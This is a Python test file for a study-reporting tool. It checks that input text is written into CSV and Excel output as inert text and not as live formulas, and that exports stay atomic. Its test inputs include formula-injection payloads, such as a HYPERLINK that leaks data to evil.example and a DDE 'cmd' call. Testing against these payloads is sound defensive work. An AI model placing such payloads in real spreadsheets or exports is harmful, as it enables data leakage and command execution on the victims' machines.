"""Input text never becomes a live spreadsheet formula, and a file a command writes is whole or
not written at all.

A study's own words (code and theme names, excerpts, cohort labels, milestone names) reach a
report's CSVs and workbook; a participants column of any legal name reaches an export in every
format; a write that fails leaves what was at the path byte for byte and no temporary file.
"""

from __future__ import annotations

import csv
import json
import re
import resource
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pyreadstat
import pytest

from peerimpact.builder.pipeline import build
from peerimpact.cli import main
from peerimpact.ingest.writers import NotWritten, write_table
from peerimpact.resources import params_dir
from peerimpact.text import FORMULA_START, neutralise

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
FORMATS = ["csv", "xlsx", "sav", "dta", "parquet"]


def test_neutralise_prefixes_every_formula_start_and_leaves_numbers_and_text_alone():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+cmd") == f"'{start}1+cmd"
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    for number in ("-2.71", "+3", "-0", "-.5", "1e-3", "-1E+06", "−0.5", "42", "029"):
        assert neutralise(number) == number
    for value in (-2.71, 3, None, float("nan")):
        assert neutralise(value) is value
    for text in ("Bank staff", "Feeling valued", "", "'=already", "a=b", " =1+1", "–5 (en dash)"):
        assert neutralise(text) == text
    assert neutralise("-") == "'-" and neutralise("-1 to 2") == "'-1 to 2" and neutralise("--1") == "'--1"


# ------------------------------------------------------------------------------------- a build


def _dangerous(i: int, text: str) -> str:
    return f"{DANGEROUS[i % len(DANGEROUS)]} {text}"


def _poison(study: Path, params: Path | None = None) -> None:
    """Put a formula at the start of every free-text input of the study, and name its themes so in a
    copy of the analysis params at ``params`` (which pin quotes and name themes)."""
    codebook = pd.read_csv(study / "codebook.csv", dtype=str, keep_default_na=False)
    themes = {t: _dangerous(i, t) for i, t in enumerate(dict.fromkeys(codebook["theme"]))}
    if params is not None:
        shutil.copytree(params_dir(), params)
        for name in ("qualitative.yml", "synthesis.yml"):
            text = (params / name).read_text()
            for old, new in themes.items():
                text = re.sub(
                    rf"^(  ){re.escape(old)}:", lambda m, new=new: f"{m[1]}{json.dumps(new)}:", text, flags=re.M
                )
                text = re.sub(
                    rf"(themes: \[[^\]\n]*?)\b{re.escape(old)}\b", lambda m, new=new: m[1] + json.dumps(new), text
                )
            (params / name).write_text(text)
    codebook["theme"] = codebook["theme"].map(themes)
    codebook["code"] = [_dangerous(i, c) for i, c in enumerate(codebook["code"])]
    codebook["description"] = [_dangerous(i, d) for i, d in enumerate(codebook["description"])]
    codebook.to_csv(study / "codebook.csv", index=False, quoting=csv.QUOTE_ALL)  # a lone \r is a line end unquoted
    excerpts = pd.read_csv(study / "excerpts.csv", dtype=str, keep_default_na=False)
    excerpts["text"] = [_dangerous(i, t) for i, t in enumerate(excerpts["text"])]
    excerpts.to_csv(study / "excerpts.csv", index=False, quoting=csv.QUOTE_ALL)
    # study.yml edited as text (a YAML round trip would turn the religion code NO into false); a JSON
    # string is a YAML double-quoted scalar
    lines, section = [], None
    for i, line in enumerate((study / "study.yml").read_text().splitlines()):
        section = line[:-1] if re.fullmatch(r"\w+:", line) else section if line.startswith(" ") else None

        def quoted(text, i=i):
            return json.dumps(_dangerous(i, text))

        if line.startswith("name: ") or (section == "funder" and re.match(r"  (name|grant): ", line)):
            key, _, value = line.partition(": ")
            line = f"{key}: {quoted(value)}"
        elif section == "cohorts" and line.startswith("    label: "):
            line = "    label: " + quoted(line.removeprefix("    label: "))
        elif section == "services" and line.startswith("  "):
            key, _, value = line.partition(": ")
            line = f"{key}: {quoted(json.loads(value))}"
        elif section == "milestones":
            line = re.sub(r"(name: )([^,{}]+?)(,|$)", lambda m: m[1] + quoted(m[2]) + m[3], line)
        lines.append(line)
    (study / "study.yml").write_text("\n".join(lines) + "\n")


def _dangerous_start(text: str) -> bool:
    return text.startswith(FORMULA_START) and not NUMBER.fullmatch(text)


@pytest.mark.kernel
def test_no_input_text_becomes_a_formula_in_a_reports_csvs_or_workbook(example_copy, tmp_path):
    _poison(example_copy, tmp_path / "params")
    out = tmp_path / "reports"
    result = build(
        example_copy,
        out=out,
        params=tmp_path / "params",
        only=["study", "funder", "site-S7", "cohort-bank"],
        formats=["html", "xlsx"],
        jobs=2,
        echo=lambda m: None,
    )
    assert result.exit_code == 0, [o.error for o in result.failed] + [p.format() for p in result.problems]
    csvs, books = sorted(out.rglob("*.csv")), sorted(out.rglob("*.xlsx"))
    assert len(books) == 4 and len(csvs) > 20
    live, shown = [], set()
    for path in csvs:
        with open(path, newline="", encoding="utf-8") as handle:
            for line, row in enumerate(csv.reader(handle), start=1):
                live += [(path, line, v) for v in row if _dangerous_start(v)]
                shown.update(v for v in row if v.startswith("'"))
    for path in books:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or (isinstance(cell.value, str) and _dangerous_start(cell.value)):
                        live.append((path, f"{sheet.title}!{cell.coordinate}", cell.value))
                    if isinstance(cell.value, str) and cell.value.startswith("'"):
                        shown.add(cell.value)
    assert not live, live[:10]
    # the study's words got through, whole, behind the apostrophe: every formula start the readers keep
    # (they strip a leading tab or carriage return from a cell), and the names of codes, themes and milestones
    for danger in (d for d in DANGEROUS if not d[0].isspace()):
        assert any(v.startswith("'" + danger) for v in shown), danger
    for words in (
        "Paid for lived experience",
        "Feeling valued",
        "Recruitment target reached",
        "Final report to the funder",
    ):
        assert any(v.endswith(words) and v[1:].startswith(tuple(DANGEROUS)) for v in shown), words
    cover = [
        r[0] for r in openpyxl.load_workbook(out / "cohort-bank" / "tables.xlsx")["Cover"].iter_rows(values_only=True)
    ]
    scope = next(line for line in cover if line and line.startswith("Scope: "))
    assert scope.startswith("Scope: '=") and scope.endswith("Bank staff")
    quotes = pd.read_csv(out / "study" / "tables" / "quotes.csv", dtype=str, keep_default_na=False)
    assert len(quotes) and quotes["text"].str.startswith("'").all()


# ------------------------------------------------------------------------------------ exports


ODD = [
    "1st visit",
    "año",
    "with space",
    "n" * 70,
    "a.b",
    "a-b",
    "a_b",
    "_under",
    "ünï cödé",
    "ALL",
    "if",
    "str5",
    '=HYPERLINK("x")',
    "v1st_visit",
]
# column, as the reader keeps it (lower-case) -> its name in SPSS and Stata (one rule for both), where renamed
RENAMED = {
    "1st visit": "v1st_visit_2",
    "año": "ano",
    "with space": "with_space",
    "n" * 70: "n" * 32,
    "a.b": "a_b_2",
    "a-b": "a_b_3",
    "_under": "v_under",
    "ünï cödé": "uni_code",
    "all": "all_",
    "if": "if_",
    "str5": "str5_",
    '=hyperlink("x")': "v_hyperlink_x",
}


@pytest.fixture
def odd_study(example_copy: Path) -> Path:
    """The example with a participants column for each legal but unusual name."""
    people = pd.read_csv(example_copy / "participants.csv", dtype=str, keep_default_na=False)
    for i, name in enumerate(ODD):
        people[name] = [f"=v{i}" if j % 3 == 0 else str(j) for j in range(len(people))]
    people.to_csv(example_copy / "participants.csv", index=False)
    return example_copy


def _read(path: Path) -> tuple[list[str], dict[str, str]]:
    """(column names, name → variable label) of an exported file."""
    suffix = path.suffix
    if suffix == ".csv":
        return next(csv.reader(open(path, newline="", encoding="utf-8"))), {}
    if suffix == ".xlsx":
        return [c.value for c in openpyxl.load_workbook(path)["data"][1]], {}
    if suffix == ".parquet":
        return list(pd.read_parquet(path).columns), {}
    _, meta = (pyreadstat.read_sav if suffix == ".sav" else pyreadstat.read_dta)(str(path))
    return list(meta.column_names), meta.column_names_to_labels


@pytest.mark.integration
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_legal_column_name_exports_in_every_format(odd_study, tmp_path, capsys, fmt):
    out = tmp_path / f"tidy.{fmt}"
    assert main(["export", "--study", str(odd_study), "--out", str(out)]) == 0, capsys.readouterr().err
    columns, labels = _read(out)
    assert columns[:8] == [
        "participant_id",
        "site",
        "timepoint",
        "instrument",
        "subscale",
        "instrument_label",
        "subscale_label",
        "score",
    ]
    odd = [name.lower() for name in ODD]  # the reader compares headers ignoring case, keeps them lower-case
    if fmt in ("csv", "xlsx"):
        assert [neutralise(n) for n in odd] == [c for c in columns if c in {neutralise(n) for n in odd}]
        assert '\'=hyperlink("x")' in columns
    elif fmt == "parquet":
        assert set(odd) <= set(columns)
    else:
        assert all(re.fullmatch(r"[A-Za-z]\w*", c, re.ASCII) and len(c) <= 32 for c in columns), columns
        assert len({c.casefold() for c in columns}) == len(columns)
        for column in odd:
            name = RENAMED.get(column, column)
            assert name in columns, (column, name)
            if name != column:  # renamed: the study's own name is its label
                assert labels[name] == column, (name, labels[name])
        assert labels["v1st_visit"] == "V1st visit" and labels["score"] == "Subscale score"
        # the mapping is printed and written beside the file
        printed = capsys.readouterr().out
        names = pd.read_csv(out.with_name("tidy.names.csv"), dtype=str, keep_default_na=False)
        assert list(names.columns) == ["original", "exported", "label"] and len(names) == len(columns)
        for column, name in RENAMED.items():
            assert f"  {column} → {name}" in printed
            assert names.loc[names["original"] == neutralise(column), "exported"].tolist() == [name]  # no formula


@pytest.mark.integration
@pytest.mark.parametrize("fmt", FORMATS)
def test_a_failed_export_leaves_the_previous_file_as_it_was_and_nothing_else(example_copy, tmp_path, fmt):
    out = tmp_path / "exports" / f"tidy.{fmt}"
    out.parent.mkdir()
    out.write_bytes(b"the previous export, which must survive\n" * 4)
    before = out.read_bytes()

    def small_files() -> None:  # a disk that fills up part way through the write
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    run = subprocess.run(
        [sys.executable, "-m", "peerimpact.cli", "export", "--study", str(example_copy), "--out", str(out)],
        capture_output=True,
        text=True,
        preexec_fn=small_files,
        timeout=300,
    )
    assert run.returncode == 2, run.stderr
    assert out.read_bytes() == before and sorted(p.name for p in out.parent.iterdir()) == [out.name]
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in run.stderr
    assert lines[0].startswith(f"peerimpact export: not written: {out}: "), lines


def test_text_excel_cannot_hold_is_refused_by_name_and_row_and_nothing_is_written(tmp_path):
    out = tmp_path / "scores.xlsx"
    write_table(pd.DataFrame({"id": ["a", "b"], "note": ["fine", "a bell rang"]}), out)
    before = out.read_bytes()
    with pytest.raises(NotWritten, match=r"column 'note', row 3: a control character \(U\+0007\)"):
        write_table(pd.DataFrame({"id": ["a", "b"], "note": ["fine", "a bell \x07 rang"]}), out)
    assert out.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["scores.xlsx"]
    book = openpyxl.load_workbook(out)
    assert [[c.value for c in row] for row in book.active.iter_rows()][0] == ["id", "note"]


def test_score_and_export_neither_follow_nor_replace_a_symlink_at_out(example_copy, tmp_path, capsys):
    target = tmp_path / "elsewhere.csv"
    target.write_text("someone else's file\n")
    link = tmp_path / "scores.csv"
    link.symlink_to(target)
    assert main(["score", str(example_copy), "--out", str(link)]) == 2
    assert main(["export", "--study", str(example_copy), "--out", str(link)]) == 2
    err = capsys.readouterr().err
    assert err.count(f"not written: {link}: it is a symbolic link") == 2
    assert link.is_symlink() and target.read_text() == "someone else's file\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["elsewhere.csv", "scores.csv", "study"]


def test_export_refuses_to_write_over_an_input_file_outside_the_study_folder(example_copy, tmp_path, capsys):
    from conftest import move_contacts_outside

    folder = move_contacts_outside(example_copy, tmp_path / "shared")
    before = (folder / "contacts.csv").read_bytes()
    assert (
        main(
            [
                "export",
                "--study",
                str(example_copy),
                "--data-root",
                str(folder),
                "--format",
                "csv",
                "--out",
                str(folder / "contacts.csv"),
            ]
        )
        == 2
    )
    assert "refusing to write over an input file" in capsys.readouterr().err
    assert (folder / "contacts.csv").read_bytes() == before


def _renamed_ids(study: Path) -> None:
    """Two participants whose IDs start like formulas, in every file of the study."""
    for path in study.glob("*.csv"):
        path.write_text(
            path.read_text(encoding="utf-8").replace("S1-PW01", "=S1-PW01").replace("S1-PW02", "-S1-PW02"),
            encoding="utf-8",
        )


@pytest.mark.integration
def test_score_writes_ids_that_start_like_formulas_as_text(example_copy, tmp_path):
    _renamed_ids(example_copy)
    assert main(["score", str(example_copy), "--out", str(tmp_path / "scores.xlsx")]) == 0
    assert main(["score", str(example_copy), "--out", str(tmp_path / "scores.csv")]) == 0
    sheet = openpyxl.load_workbook(tmp_path / "scores.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ids = {c.value for c in cells if c.column == 1}
    assert {"'=S1-PW01", "'-S1-PW02", "S1-PW03"} <= ids
    assert {c.data_type for c in cells if c.column == 6 and c.row > 1 and c.value is not None} == {"n"}  # numbers
    frame = pd.read_csv(tmp_path / "scores.csv", dtype=str, keep_default_na=False)
    assert {"'=S1-PW01", "'-S1-PW02"} <= set(frame["participant_id"])
    assert not any(_dangerous_start(v) for v in frame.to_numpy().ravel())


def _project(study: Path, tmp_path: Path) -> Path:
    """A REFI-QDA project of the study's codes and excerpts, every text starting like a formula."""
    from peerimpact.ingest.refi_writer import write_qdpx

    _poison(study)
    return write_qdpx(
        pd.read_csv(study / "codebook.csv", keep_default_na=False),
        pd.read_csv(study / "excerpts.csv", keep_default_na=False),
        tmp_path / "project.qdpx",
    )


def test_qual_import_writes_no_formula(example_copy, tmp_path):
    out = tmp_path / "imported"
    assert main(["qual", "import", str(_project(example_copy, tmp_path)), "--out", str(out)]) == 0
    for name in ("codebook.csv", "excerpts.csv"):
        with open(out / name, newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        assert not [v for row in rows for v in row if _dangerous_start(v)], name
        assert any(v.startswith("'=") for row in rows for v in row), name


def test_what_qual_import_wrote_reads_back_as_the_project_said_it(example_copy, tmp_path):
    from peerimpact.ingest.readers import read_table
    from peerimpact.problems import Problems

    out = tmp_path / "imported"
    assert main(["qual", "import", str(_project(example_copy, tmp_path)), "--out", str(out)]) == 0
    original = pd.read_csv(example_copy / "codebook.csv", keep_default_na=False)  # poisoned by _project
    table = read_table(out / "codebook.csv", Problems())
    names = {row[table.columns.index("code")] for row in table.rows}
    assert set(original["code"]) <= names and any(n.startswith("=") for n in names)


def test_qual_import_writes_both_files_or_neither(example_copy, tmp_path, capsys):
    out = tmp_path / "imported"
    out.mkdir()
    (out / "excerpts.csv").symlink_to(tmp_path / "elsewhere.csv")
    assert main(["qual", "import", str(_project(example_copy, tmp_path)), "--out", str(out)]) == 2
    assert f"not written: {out / 'excerpts.csv'}: it is a symbolic link" in capsys.readouterr().err
    assert [p.name for p in out.iterdir()] == ["excerpts.csv"] and not (tmp_path / "elsewhere.csv").exists()


def test_the_audit_summary_writes_no_formula(tmp_path):
    from peerimpact.builder.audit import write_summary
    from peerimpact.builder.table_audit import TableAudit

    audits = [
        TableAudit("cohort-bank", "codes_by_site", fail=['=HYPERLINK("http://evil.example/") Bank/S1: n 3']),
        TableAudit("site-S7", "table1", review=["-1/T1: n 9 here and 12 in site-S6"]),
    ]
    path = write_summary(audits, tmp_path / "audit-summary.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert [row[3] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/") Bank/S1: n 3',
        "'-1/T1: n 9 here and 12 in site-S6",
    ]


def test_a_participants_column_named_like_a_score_column_is_kept_beside_it(example_copy, tmp_path):
    people = pd.read_csv(example_copy / "participants.csv", dtype=str, keep_default_na=False)
    people["score"], people["timepoint"] = "high", "baseline"
    people.to_csv(example_copy / "participants.csv", index=False)
    assert main(["export", "--study", str(example_copy), "--out", str(tmp_path / "tidy.sav")]) == 0
    frame, meta = pyreadstat.read_sav(str(tmp_path / "tidy.sav"))
    assert {"score", "timepoint", "score_participants", "timepoint_participants"} <= set(frame.columns)
    assert pd.api.types.is_float_dtype(frame["score"]) and set(frame["score_participants"]) == {"high"}
    assert meta.column_names_to_labels["score"] == "Subscale score"
    assert set(frame["timepoint"].map(meta.variable_value_labels["timepoint"])) == {"T1", "T2", "T3"}
